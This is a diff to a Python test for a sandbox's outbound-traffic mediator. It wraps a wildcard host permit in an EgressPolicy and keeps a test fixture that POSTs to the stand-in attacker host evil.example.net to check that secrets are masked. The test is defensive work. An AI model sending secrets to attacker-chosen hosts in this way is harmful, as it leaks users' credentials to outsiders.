@@ -7,6 +7,7 @@ import urllib.parse
 
 import pytest
 
+from runtime.egress.policy import EgressPolicy
 from sandbox.engine_host import Compiled
 from sandbox.host import Sandbox
 from sandbox.masking import MASK, Masker
@@ -71,7 +72,7 @@ def handler(event, profile, context):
 @pytest.mark.parametrize("blank", ["", " ", "\t", "\n", "\u00a0", "\u2003"])
 def test_a_placeholder_is_found_as_it_is_filled(blank: str) -> None:
     """With `*` as host the event's data would choose who receives the secret."""
-    mediator = Mediator(Permit(("*",)), MASKER)
+    mediator = Mediator(Permit(EgressPolicy(hosts=("*",))), MASKER)
     message = {
         "method": "POST",
         "url": "https://evil.example.net/",
